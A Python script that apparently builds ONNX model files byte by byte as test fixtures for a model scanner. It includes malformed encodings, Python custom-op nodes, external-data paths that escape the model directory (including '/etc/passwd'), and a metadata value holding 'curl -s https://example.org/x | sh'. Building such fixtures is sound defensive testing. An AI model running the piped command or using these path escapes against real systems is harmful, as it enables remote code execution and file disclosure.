"""onnx.py - ModelProtos byte by byte, after onnx.proto; the onnx package is not asked."""
import struct


def varint(n):
    out = b""
    while n >= 0x80:
        out += bytes([n & 0x7F | 0x80])
        n >>= 7
    return out + bytes([n])


def num(field, v):
    return varint(field << 3) + varint(v & (2**64 - 1))


def ln(field, body, n=None):
    body = body.encode() if isinstance(body, str) else body
    return varint(field << 3 | 2) + varint(len(body) if n is None else n) + body


def entry(field, key, value):
    return ln(field, ln(1, key) + ln(2, value))


def tensor(name="w", dims=(2,), kind=1, raw=bytes(8), more=b""):
    return b"".join(num(1, d) for d in dims) + num(2, kind) + ln(8, name) + (b"" if raw is None else ln(9, raw)) + more


def node(op="Relu", domain=None, attrs=b""):
    return ln(1, "x") + ln(2, "y") + ln(4, op) + attrs + (b"" if domain is None else ln(7, domain))


def value(name):
    return ln(1, name) + ln(2, ln(1, num(1, 1) + ln(2, ln(1, num(1, 2)))))


def graph(nodes=None, initializers=(), more=b""):
    nodes = [node()] if nodes is None else nodes
    return (b"".join(ln(1, n) for n in nodes) + ln(2, "g") + b"".join(ln(5, t) for t in initializers)
            + ln(11, value("x")) + ln(12, value("y")) + more)


def model(g=None, more=b"", ir=8, domains=("",)):
    opsets = b"".join(ln(8, (ln(1, d) if d else b"") + num(2, 15)) for d in domains)
    return (b"" if ir is None else num(1, ir)) + ln(2, "modelassay-tests") + ln(7, graph() if g is None else g) + opsets + more


def with_tensor(**k): return model(graph(initializers=[tensor(**k)]))
def with_nodes(*nodes, **k): return model(graph(list(nodes)), **k)
def external(location="weights.bin", offset="0", length="8", more=b"", kind=1, location_flag=1):
    keys = (entry(13, "location", location) if location is not None else b"")
    keys += (entry(13, "offset", offset) if offset is not None else b"") + (entry(13, "length", length) if length is not None else b"")
    return model(graph(initializers=[tensor(raw=None, kind=kind, more=keys + more + num(14, location_flag))]))


def plain(): return with_tensor()
def fields_reordered(): return ln(8, num(2, 15)) + ln(7, graph()) + num(1, 8) + ln(2, "p")
def types():
    """One tensor of each kind of value field."""
    ts = [tensor("f", (2,), 1, None, ln(4, struct.pack("<2f", 1, 2))), tensor("i", (3,), 6, None, ln(5, varint(1) + varint(300) + varint(7))),
          tensor("s", (2,), 8, None, ln(6, "a") + ln(6, "b")), tensor("l", (2,), 7, None, num(7, 1) + num(7, 2)),
          tensor("d", (1,), 11, None, ln(10, bytes(8))), tensor("u", (2,), 13, None, ln(11, varint(2**64 - 1) + varint(1))),
          tensor("h", (4,), 22, None, ln(5, varint(1) + varint(2))), tensor("c", (1,), 14, None, ln(4, bytes(8))), tensor("e", (0,), 1, None)]
    return model(graph(initializers=ts))
def subgraph():
    inner = graph([node("Add")], [tensor("inner")])
    return with_nodes(node("If", attrs=ln(5, ln(1, "then_branch") + ln(6, inner) + num(20, 5))))
def sparse(): return model(graph(more=ln(15, ln(1, tensor("v")) + ln(2, tensor("i", (2,), 7, bytes(16))) + num(3, 9))))
def function(): return model(more=ln(25, ln(1, "f") + ln(7, node("Relu")) + ln(9, num(2, 15)) + ln(10, "my.domain")), domains=("", "my.domain"))
def training(): return model(more=ln(20, ln(1, graph())))
def metadata(): return model(more=entry(14, "author", "somebody"))
def microsoft(): return with_nodes(node("FusedGemm", "com.microsoft"), domains=("", "com.microsoft"))

def unknown_domain(): return with_nodes(node("Thing", "my.company"), domains=("", "my.company"))
def py_op(): return with_nodes(node("PyOp", "ai.onnx.contrib"), domains=("", "ai.onnx.contrib"))
def python_op(): return with_nodes(node("PythonOp", "com.microsoft"), domains=("", "com.microsoft"))
def py_op_in_subgraph():
    inner = graph([node("PyOp", "ai.onnx.contrib")])
    return with_nodes(node("If", attrs=ln(5, ln(1, "then_branch") + ln(6, inner))), domains=("", "ai.onnx.contrib"))
def py_op_in_function(): return model(more=ln(25, ln(1, "f") + ln(7, node("PyOp", "ai.onnx.contrib")) + ln(10, "my.domain")), domains=("",))
def merged_graph(): return model(more=ln(7, graph([node("Sub")])))
def unknown_small(): return model(more=ln(1000, "x" * 10))
def unknown_large(): return model(more=ln(1000, "x" * 2000))
def group(): return model(more=varint(99 << 3 | 3) + ln(5, "hidden") + varint(99 << 3 | 4))
def group_open(): return model(more=varint(99 << 3 | 3) + ln(5, "hidden"))
def group_end(): return model(more=varint(99 << 3 | 4))
def wire_6(): return model(more=varint(14 << 3 | 6))
def field_0(): return model(more=b"\x00\x00")
def overlong(): return model(more=varint(5 << 3) + b"\x81\x80\x00")
def varint_11(): return model(more=varint(5 << 3) + b"\x80" * 10 + b"\x01")
def length_lies(): return model(more=ln(14, b"", n=1 << 40))
def inner_length_lies(): return model(ln(1, ln(4, "Relu", n=1000)) + ln(2, "g"))
def ir_0(): return model(ir=0)
def ir_99(): return model(ir=99)
def no_type(): return with_tensor(kind=0)
def type_99(): return with_tensor(kind=99)
def negative_dim(): return with_tensor(dims=(-1,))
def overflow(): return with_tensor(dims=(1 << 40, 1 << 40))
def raw_short(): return with_tensor(dims=(4,))
def raw_long(): return with_tensor(raw=bytes(64))
def two_raws(): return with_tensor(more=ln(9, bytes(8)))
def values_short(): return with_tensor(dims=(4,), raw=None, more=ln(4, bytes(8)))
def values_long(): return with_tensor(dims=(1,), raw=None, more=ln(4, bytes(8)))
def two_fields(): return with_tensor(more=ln(4, bytes(8)))
def no_data(): return with_tensor(raw=None)
def empty_with_data(): return with_tensor(dims=(0,))
def raw_strings(): return with_tensor(kind=8)
def shadow(): return model(more=ln(25, ln(1, "Relu") + ln(7, node("PyOp", "x")) + ln(10, "ai.onnx")), domains=("",))
def cycle():
    f = lambda name, calls: ln(25, ln(1, name) + ln(7, node(calls, "my.domain")) + ln(10, "my.domain"))
    return model(more=f("f", "g") + f("g", "f"))
def chain():
    f = lambda name, calls: ln(25, ln(1, name) + ln(7, node(calls, "my.domain")) + ln(10, "my.domain"))
    return model(more=f("f", "g") + f("g", "h") + ln(25, ln(1, "h") + ln(7, node("Relu")) + ln(10, "my.domain")))
def deep_graphs():
    g = graph()
    for _ in range(40):
        g = graph([node("If", attrs=ln(5, ln(1, "b") + ln(6, g)))])
    return model(g)

def ext_escape(): return external("../weights.bin")
def ext_inner_escape(): return external("a/../../weights.bin")
def ext_dots_in_name(): return external("a..b.bin")
def ext_absolute(): return external("/etc/passwd")
def ext_drive(): return external("C:\\x")
def ext_backslash(): return external("a\\..\\b")
def ext_nul(): return external("a\0b")
def ext_hash(): return external("#/../x")
def ext_uri(): return external("http://example.org/x")
def ext_empty(): return external("")
def ext_missing(): return external("nowhere.bin")
def ext_memory(): return external("*/_ORT_MEM_ADDR_/*", "140737488355328")
def ext_underscore(): return external(offset="1_000")
def ext_duplicate(): return external(more=entry(13, "offset", "4"))
def ext_unknown_key(): return external(more=entry(13, "loader", "x"))
def ext_inline(): return with_tensor(more=entry(13, "location", "weights.bin") + num(14, 1))
def ext_not_flagged(): return external(location_flag=0)
def template_in_metadata(): return model(more=entry(14, "note", "curl -s https://example.org/x | sh"))
def beside_whole(): return external("whole.bin")
def beside_short(): return external("short.bin")
def beside_linked(): return external("linked.bin")
